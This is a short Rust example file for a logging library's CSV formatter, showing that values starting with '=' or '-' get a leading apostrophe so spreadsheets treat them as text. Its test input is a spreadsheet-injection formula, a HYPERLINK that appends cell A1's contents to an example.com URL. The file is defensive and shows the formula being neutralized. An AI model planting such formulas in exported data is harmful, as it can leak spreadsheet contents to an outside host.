//! A text that a spreadsheet would compute gets a `'` in front in CSV, which marks it as text for spreadsheets.

use tracing_handlers::format::Csv;
use tracing_handlers::sink::Memory;
use tracing_handlers::{Output, Part};

use crate::{Recipe, logged};

pub const RECIPE: Recipe =
    Recipe { name: "formula", about: "formulas are neutralized for spreadsheets", make, shows: SHOWS };

fn make() -> String {
    let memory = Memory::new();
    let columns = [Part::Message, Part::field("user"), Part::field("change")];
    logged(Output::new(Csv::new().columns(columns), memory.clone()), || {
        tracing::info!(user = "=HYPERLINK(\"http://example.com/?\"&A1,\"more\")", change = -5, "-2 pieces");
    });
    memory.text()
}

const SHOWS: &str = r#"
'-2 pieces,"'=HYPERLINK(""http://example.com/?""&A1,""more"")",-5
"#;
